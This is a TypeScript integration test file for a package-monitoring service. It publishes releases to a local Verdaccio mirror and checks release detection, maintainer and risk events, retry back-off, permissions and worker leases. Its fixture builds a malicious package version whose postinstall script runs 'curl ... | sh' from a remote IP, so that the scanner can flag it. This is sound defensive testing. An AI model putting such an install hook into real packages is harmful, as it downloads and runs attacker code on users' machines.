// Monitoring end to end: a real Verdaccio on loopback into which releases are published between checks, an unreachable mirror, the routes, two worker loops.
import { createProject } from '../projects/store.js';
import express, { type RequestHandler } from 'express';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MonitorCheck, WatchedPackage } from '../../core/contracts/pkgscan-monitoring.js';
import type { PageOf, Role, SecurityEvent } from '../../core/contracts/pkgscan.js';
import { VitrineError } from '../../core/errors.js';
import { errorHandler, notFound, requestId, route } from '../../core/http/index.js';
import { listen, type Listening } from '../../core/http/server.js';
import { hasPermission } from '../auth/roles.js';
import type { Platform } from '../platform.js';
import { scanDeps } from '../scans/deps.js';
import type { ScanDeps } from '../scans/scan.js';
import { startVerdaccio, type TestRegistry } from '../sources/verdaccio.fixture.js';
import { sourcesFromConfig } from '../sources/resolve.js';
import { importArchive, StoreSource } from '../sources/store.js';
import { npmTarball, tgz } from '../sources/archives.fixture.js';
import { call, sessionsByRole, startServer, type Session, type TestServer } from '../server.fixture.js';
import { monitoringRoutes } from './http.js';
import { claimDueLeases, releaseLease } from '../db/leases.js';
import { checkPackage, createWatched, findWatched, getWatched, listChecks, nextDelaySeconds, publishesMonitorError } from './monitoring.js';
import { runMonitoringWorker } from './worker.js';

const json = async <T>(r: Response): Promise<T> => (await r.json()) as T;

let registry: TestRegistry;
let base: string;

const publish = (name: string, version: string, tarball: Uint8Array): Promise<void> => registry.publish(name, version, tarball);

/** A release of a benign package, or (gainsHook) the next one that gains an install script running a downloaded shell script, and a new maintainer. */
function release(name: string, version: string, gainsHook = false): Promise<Uint8Array> {
  const maintainers = [{ name: 'alice', email: 'alice@example.org' }, ...(gainsHook ? [{ name: 'mallory', email: 'mallory@example.net' }] : [])];
  return tgz({
    'package/package.json': JSON.stringify({ name, version, main: 'index.js', maintainers, ...(gainsHook ? { scripts: { postinstall: 'node scripts/setup.js' } } : {}) }),
    'package/index.js': 'module.exports = 1;\n',
    ...(gainsHook ? { 'package/scripts/setup.js': "const cp = require('child_process');\ncp.execSync('curl -s http://203.0.113.7/p.sh | sh');\n" } : {}),
  });
}

/** The monitoring routes as the service will mount them (until the lead adds them to the route table): bearer sign-in, permission, the one error shape. */
function mount(p: Platform, deps: ScanDeps): express.Express {
  const app = express();
  app.use(requestId());
  app.use(express.json({ limit: '64kb' }));
  for (const def of monitoringRoutes(p, deps)) {
    const auth: RequestHandler = (req, res, next) => {
      const h = req.headers.authorization;
      if (h === undefined || !h.startsWith('Bearer ')) {
        next(new VitrineError('unauthorized', 'authentication required'));
        return;
      }
      p.auth.authenticate(h.slice(7)).then((user) => {
        if (def.access !== 'authenticated' && def.access !== 'public' && def.access !== 'refresh_cookie' && def.access !== 'metrics' && !hasPermission(user.role, def.access)) next(new VitrineError('forbidden', 'no'));
        else {
          res.locals['user'] = user;
          next();
        }
      }, next);
    };
    app[def.method](`/api/v1${def.path}`, auth, route((req, res) => def.handler(req, res, res.locals['user'] as Parameters<typeof def.handler>[2])));
  }
  app.use(notFound());
  app.use(errorHandler());
  return app;
}

beforeAll(async () => {
  registry = await startVerdaccio();
  base = registry.base;
}, 30_000);

afterAll(async () => {
  await registry.close();
});

describe('monitoring against a lab npm mirror (Verdaccio)', () => {
  let s: TestServer;
  let by: Record<Role, Session>;
  let local: Listening;
  let api: string;
  let deps: ScanDeps;
  let down: ScanDeps;

  const req = (method: string, p: string, who: Session, body?: unknown): Promise<Response> =>
    fetch(`${api}${p}`, { method, headers: { authorization: `Bearer ${who.token}`, ...(body !== undefined ? { 'content-type': 'application/json' } : {}) }, ...(body !== undefined ? { body: JSON.stringify(body) } : {}) });
  const eventsOf = async (match: (e: SecurityEvent) => boolean): Promise<SecurityEvent[]> => (await json<PageOf<SecurityEvent>>(await call(s, 'GET', '/events?limit=500', { token: by.admin.token }))).items.filter(match);

  beforeAll(async () => {
    s = await startServer();
    by = await sessionsByRole(s);
    deps = { ...scanDeps(s.platform), sources: () => sourcesFromConfig(s.platform.db, s.platform.dataDir, {}, { npmMirror: base, timeoutMs: 10_000 }) };
    down = { ...scanDeps(s.platform), sources: () => sourcesFromConfig(s.platform.db, s.platform.dataDir, {}, { npmMirror: 'http://127.0.0.1:9/', timeoutMs: 5000 }) };
    local = await listen(mount(s.platform, deps), { port: 0 });
    api = `${local.url}/api/v1`;
  }, 60_000);
  afterAll(async () => {
    await local.close();
    await s.close();
  });

  it('baseline, unchanged, then a published release: new_release with a diff and the four events; 409 on a duplicate', async () => {
    await publish('watched-lib', '1.0.0', await release('watched-lib', '1.0.0'));
    const created = await req('POST', '/monitoring/packages', by.security_analyst, { name: 'watched-lib' });
    expect(created.status).toBe(201);
    const w = await json<WatchedPackage>(created);
    expect(w).toMatchObject({ ecosystem: 'npm', name: 'watched-lib', approved_version: null, poll_interval_seconds: 3600, enabled: true, failing: false, snapshot: null, last_result: null });
    expect((await req('POST', '/monitoring/packages', by.admin, { name: 'watched-lib', ecosystem: 'npm' })).status).toBe(409);
    expect((await req('POST', '/monitoring/packages', by.developer, { name: 'other-lib' })).status).toBe(403);

    const first = await json<MonitorCheck>(await req('POST', `/monitoring/packages/${w.id}/check`, by.admin));
    expect(first).toMatchObject({ result: 'baseline', newest_version: '1.0.0', diff_id: null, error: null, consecutive_failures: 0, trigger: 'manual' });
    const afterBaseline = await json<WatchedPackage>(await req('GET', `/monitoring/packages/${w.id}`, by.read_only));
    expect(afterBaseline.snapshot).toMatchObject({ versions: ['1.0.0'], newest: '1.0.0', sources: ['store', 'npm-mirror'] });
    expect(afterBaseline.last_result).toBe('baseline');
    expect(Date.parse(afterBaseline.next_check_at) - Date.parse(afterBaseline.last_check_at ?? '')).toBe(3600_000);

    expect(await json<MonitorCheck>(await req('POST', `/monitoring/packages/${w.id}/check`, by.admin))).toMatchObject({ result: 'unchanged', newest_version: '1.0.0', new_versions: [] });

    await publish('watched-lib', '1.1.0', await release('watched-lib', '1.1.0', true));
    const found = await json<MonitorCheck>(await req('POST', `/monitoring/packages/${w.id}/check`, by.admin));
    expect(found).toMatchObject({ result: 'new_release', from_version: '1.0.0', to_version: '1.1.0', newest_version: '1.1.0', new_versions: ['1.1.0'], escalated: true });
    expect(found.diff_id).toMatch(/^[0-9a-f-]{36}$/);
    const mine = await eventsOf((e) => e.details['diff_id'] === found.diff_id);
    expect(mine.map((e) => e.type).sort()).toEqual(['behavior_drift_detected', 'maintainer_changed', 'new_release_detected', 'risk_escalated']);
    expect(mine.every((e) => e.package === 'npm:watched-lib')).toBe(true);
    expect(found.events).toHaveLength(4);
    const risk = mine.find((e) => e.type === 'risk_escalated');
    expect(Number(risk?.details['risk_to'])).toBeGreaterThan(Number(risk?.details['risk_from']));
    expect(mine.find((e) => e.type === 'new_release_detected')?.details).toMatchObject({ package_id: w.id, from_version: '1.0.0', to_version: '1.1.0', maintainers_added: ['mallory <mallory@example.net>'] });

    // Seen now: the next check is unchanged, and the watched package shows the diff and what was seen.
    expect(await json<MonitorCheck>(await req('POST', `/monitoring/packages/${w.id}/check`, by.admin))).toMatchObject({ result: 'unchanged', newest_version: '1.1.0' });
    const now = await json<WatchedPackage>(await req('GET', `/monitoring/packages/${w.id}`, by.auditor));
    expect(now).toMatchObject({ last_diff_id: found.diff_id, last_result: 'unchanged', snapshot: { versions: ['1.0.0', '1.1.0'], newest: '1.1.0' } });
    expect(now.snapshot?.maintainers).toContain('mallory <mallory@example.net>');
    const checks = await json<PageOf<MonitorCheck>>(await req('GET', `/monitoring/packages/${w.id}/checks`, by.read_only));
    expect(checks.items.map((c) => c.result)).toEqual(['unchanged', 'new_release', 'unchanged', 'baseline']);
    const audit = await json<PageOf<{ action: string; details: Record<string, unknown> }>>(await call(s, 'GET', '/audit?limit=200', { token: by.admin.token }));
    const actions = audit.items.filter((e) => e.details['package_id'] === w.id).map((e) => e.action);
    expect(actions.filter((a) => a === 'monitor.check')).toHaveLength(4);
    expect(actions).toContain('monitor.create');
  }, 120_000);

  it('compares with the approved version when one is set, from the very first check (a newer release already known is new)', async () => {
    await publish('approved-lib', '1.0.0', await release('approved-lib', '1.0.0'));
    await publish('approved-lib', '1.1.0', await release('approved-lib', '1.1.0', true));
    const project = await s.platform.store.transaction((q) => createProject(q, { name: 'watchers-project' }, 'tester'));
    const w = await json<WatchedPackage>(await req('POST', '/monitoring/packages', by.admin, { name: 'approved-lib', approved_version: '1.0.0', poll_interval_seconds: 300, project_id: project.id }));
    expect(w.project_id).toBe(project.id);
    const first = await checkPackage(s.platform, deps, w.id, 'tester');
    expect(first).toMatchObject({ result: 'new_release', from_version: '1.0.0', to_version: '1.1.0', escalated: true });
    const mine = await eventsOf((e) => e.details['diff_id'] === first.diff_id);
    expect(mine.map((e) => e.type).sort()).toEqual(['behavior_drift_detected', 'maintainer_changed', 'new_release_detected', 'risk_escalated']);
    // every event of the check carries the package's project, drift and maintainer included
    expect(mine.map((e) => e.project)).toEqual(['watchers-project', 'watchers-project', 'watchers-project', 'watchers-project']);
    expect((await checkPackage(s.platform, deps, w.id, 'tester')).result).toBe('unchanged');
    await publish('approved-lib', '1.2.0', await release('approved-lib', '1.2.0'));
    const c = await checkPackage(s.platform, deps, w.id, 'tester');
    expect(c).toMatchObject({ result: 'new_release', from_version: '1.0.0', to_version: '1.2.0' });
    // A new release always publishes its drift, risk and maintainer events; nothing rose, so they are info.
    const quiet = await eventsOf((e) => e.details['diff_id'] === c.diff_id);
    expect(quiet.map((e) => e.type).sort()).toEqual(['behavior_drift_detected', 'maintainer_changed', 'new_release_detected', 'risk_escalated']);
    expect(c.events).toHaveLength(4);
  }, 120_000);

  it('an unreachable mirror: error, exponential back-off, monitor_error on the first and the fifth failure, failing filter; a success resets', async () => {
    await publish('flaky-lib', '2.0.0', await npmTarball('flaky-lib', '2.0.0'));
    const w = await createWatched(s.platform, { name: 'flaky-lib', poll_interval_seconds: 300 }, 'tester', null);
    const seen: MonitorCheck[] = [];
    for (let i = 0; i < 5; i++) seen.push(await checkPackage(s.platform, down, w.id, 'tester', { trigger: 'scheduled' }));
    expect(seen.map((c) => c.result)).toEqual(['error', 'error', 'error', 'error', 'error']);
    expect(seen.map((c) => c.consecutive_failures)).toEqual([1, 2, 3, 4, 5]);
    expect(seen[0]?.error).toEqual({ code: 'unavailable', message: expect.any(String) as string });
    expect(seen.map((c) => (Date.parse(c.next_check_at) - Date.parse(c.checked_at)) / 1000)).toEqual([600, 1200, 2400, 4800, 9600]);
    expect(seen.map((c) => c.events.length)).toEqual([1, 0, 0, 0, 1]);
    const errors = await eventsOf((e) => e.type === 'monitor_error' && e.details['package_id'] === w.id);
    expect(errors.map((e) => e.details['consecutive_failures']).sort()).toEqual([1, 5]);
    expect(JSON.stringify(errors)).not.toContain('127.0.0.1');

    const failing = await json<PageOf<WatchedPackage>>(await req('GET', '/monitoring/packages?failing=true', by.read_only));
    expect(failing.items.map((x) => x.name)).toEqual(['flaky-lib']);
    expect(failing.items[0]).toMatchObject({ failing: true, consecutive_failures: 5, last_result: 'error', last_error: { code: 'unavailable' } });
    const healthy = await json<PageOf<WatchedPackage>>(await req('GET', '/monitoring/packages?failing=false&limit=1', by.read_only));
    expect(healthy.total).toBeGreaterThanOrEqual(2);
    expect(healthy.items).toHaveLength(1);
    expect((await req('GET', '/monitoring/packages?failing=perhaps', by.read_only)).status).toBe(400);

    const ok = await checkPackage(s.platform, deps, w.id, 'tester');
    expect(ok).toMatchObject({ result: 'baseline', consecutive_failures: 0, newest_version: '2.0.0' });
    expect(await getWatched(s.platform.store, w.id)).toMatchObject({ failing: false, consecutive_failures: 0, last_error: null });
    expect((await findWatched(s.platform.store, 'npm', 'flaky-lib'))?.id).toBe(w.id);
    expect(await findWatched(s.platform.store, 'pypi', 'flaky-lib')).toBeUndefined();
  }, 120_000);

  it('the back-off and publication rules', () => {
    expect([0, 1, 2, 3, 8, 9].map((n) => nextDelaySeconds(300, n))).toEqual([300, 600, 1200, 2400, 76_800, 86_400]);
    expect(nextDelaySeconds(604_800, 3)).toBe(604_800);
    expect(nextDelaySeconds(3600, 40)).toBe(86_400);
    expect([1, 2, 4, 5, 6, 10, 11, 15].filter(publishesMonitorError)).toEqual([1, 5, 10, 15]);
  });

  it('PATCH and POST limits (300..604800), validation, permissions, delete', async () => {
    const w = await json<WatchedPackage>(await req('POST', '/monitoring/packages', by.admin, { name: 'limits-lib' }));
    for (const bad of [299, 604_801, 0, -5, 1.5, '600'])
      expect((await req('PATCH', `/monitoring/packages/${w.id}`, by.admin, { poll_interval_seconds: bad })).status).toBe(422);
    expect((await req('POST', '/monitoring/packages', by.admin, { name: 'limits-other', poll_interval_seconds: 299 })).status).toBe(422);
    expect((await req('POST', '/monitoring/packages', by.admin, { name: 'limits-other', ecosystem: 'rubygems' })).status).toBe(422);
    expect((await req('POST', '/monitoring/packages', by.admin, { name: 'limits-other', project_id: 'nope' })).status).toBe(422);
    expect((await req('POST', '/monitoring/packages', by.admin, { name: 'limits-other', extra: true })).status).toBe(422);
    expect((await req('PATCH', `/monitoring/packages/${w.id}`, by.admin, {})).status).toBe(422);
    expect((await req('PATCH', `/monitoring/packages/${w.id}`, by.admin, { name: 'renamed' })).status).toBe(422);
    expect(await json<WatchedPackage>(await req('PATCH', `/monitoring/packages/${w.id}`, by.admin, { poll_interval_seconds: 300 }))).toMatchObject({ poll_interval_seconds: 300 });
    const top = await json<WatchedPackage>(await req('PATCH', `/monitoring/packages/${w.id}`, by.security_analyst, { poll_interval_seconds: 604_800, enabled: false, approved_version: '1.0.0' }));
    expect(top).toMatchObject({ poll_interval_seconds: 604_800, enabled: false, approved_version: '1.0.0' });
    expect(await json<WatchedPackage>(await req('PATCH', `/monitoring/packages/${w.id}`, by.admin, { approved_version: null }))).toMatchObject({ approved_version: null });
    expect((await req('PATCH', `/monitoring/packages/${w.id}`, by.developer, { enabled: true })).status).toBe(403);
    expect((await req('GET', '/monitoring/packages?enabled=false', by.read_only)).status).toBe(200);
    expect((await req('GET', `/monitoring/packages/00000000-0000-0000-0000-000000000000`, by.read_only)).status).toBe(404);
    expect((await req('GET', `/monitoring/packages/not-an-id`, by.read_only)).status).toBe(404);
    expect((await req('DELETE', `/monitoring/packages/${w.id}`, by.read_only)).status).toBe(403);
    expect((await req('DELETE', `/monitoring/packages/${w.id}`, by.admin)).status).toBe(204);
    expect((await req('GET', `/monitoring/packages/${w.id}`, by.read_only)).status).toBe(404);
    expect((await req('POST', `/monitoring/packages/${w.id}/check`, by.admin)).status).toBe(404);
  }, 60_000);
});

describe('the monitoring worker loop', () => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startServer();
  }, 30_000);
  afterAll(async () => {
    await s.close();
  });

  it('two loops claim each due package once; a claim is atomic and held', async () => {
    const p = s.platform;
    let versionsAsked = 0;
    const store = new StoreSource(p.db);
    const counting = { name: 'store', ecosystems: store.ecosystems, versions: (...a: Parameters<StoreSource['versions']>) => ((versionsAsked++, store.versions(...a))), fetch: (...a: Parameters<StoreSource['fetch']>) => store.fetch(...a) };
    const deps: ScanDeps = { ...scanDeps(p), sources: () => [counting] };
    const ids: string[] = [];
    for (let i = 0; i < 12; i++) {
      const name = `loop-lib-${i}`;
      importArchive(p.db, p.dataDir, await npmTarball(name, '1.0.0'), { filename: `${name}-1.0.0.tgz`, source: 'import', actor: 'system' });
      ids.push((await createWatched(p, { name, poll_interval_seconds: 300 }, 'tester', null)).id);
    }
    // One UPDATE claims: a second claimant gets only what is left, a third nothing.
    const lease = 600_000;
    const a = await claimDueLeases(p.store, 'a', 7, Date.now(), lease);
    const b = await claimDueLeases(p.store, 'b', 7, Date.now(), lease);
    expect(a).toHaveLength(7);
    expect(b).toHaveLength(5);
    expect(a.filter((x) => b.includes(x))).toEqual([]);
    expect(await claimDueLeases(p.store, 'c', 7, Date.now(), lease)).toEqual([]);
    await expect(checkPackage(p, deps, a[0] ?? '', 'tester')).rejects.toMatchObject({ code: 'conflict' });
    for (const id of a) await releaseLease(p.store, id, 'a');
    for (const id of b) await releaseLease(p.store, id, 'b');

    const controller = new AbortController();
    const byLoop: Record<string, string[]> = { one: [], two: [] };
    const loops = (['one', 'two'] as const).map((n) => runMonitoringWorker(p, deps, { signal: controller.signal, tickMs: 10, batch: 3, workerId: n, onCheck: (c) => byLoop[n]?.push(c.package_id) }));
    const unchecked = async (): Promise<boolean> => (await Promise.all(ids.map(async (id) => (await getWatched(p.store, id))?.last_check_at === null))).some(Boolean);
    for (let i = 0; i < 2000 && (await unchecked()); i++) await new Promise((r) => setTimeout(r, 10));
    // A few more rounds: nothing is due any more, so nothing is checked again.
    await new Promise((r) => setTimeout(r, 100));
    controller.abort();
    const stats = await Promise.all(loops);
    const all = [...(byLoop['one'] ?? []), ...(byLoop['two'] ?? [])].sort();
    expect(all).toEqual([...ids].sort());
    expect((byLoop['one'] ?? []).length).toBeGreaterThan(0);
    expect((byLoop['two'] ?? []).length).toBeGreaterThan(0);
    expect(stats.reduce((n, x) => n + x.checks, 0)).toBe(12);
    expect(versionsAsked).toBe(12);
    for (const id of ids) {
      expect((await listChecks(p.store, id, 10, 0)).items.map((c) => [c.result, c.trigger])).toEqual([['baseline', 'scheduled']]);
      expect(await getWatched(p.store, id)).toMatchObject({ last_result: 'baseline' });
    }
    // A restarted worker finds the state in the store: nothing is due, nothing is checked.
    const again = new AbortController();
    const restarted = runMonitoringWorker(p, deps, { signal: again.signal, tickMs: 10 });
    await new Promise((r) => setTimeout(r, 50));
    again.abort();
    expect((await restarted).checks).toBe(0);
  }, 60_000);
});
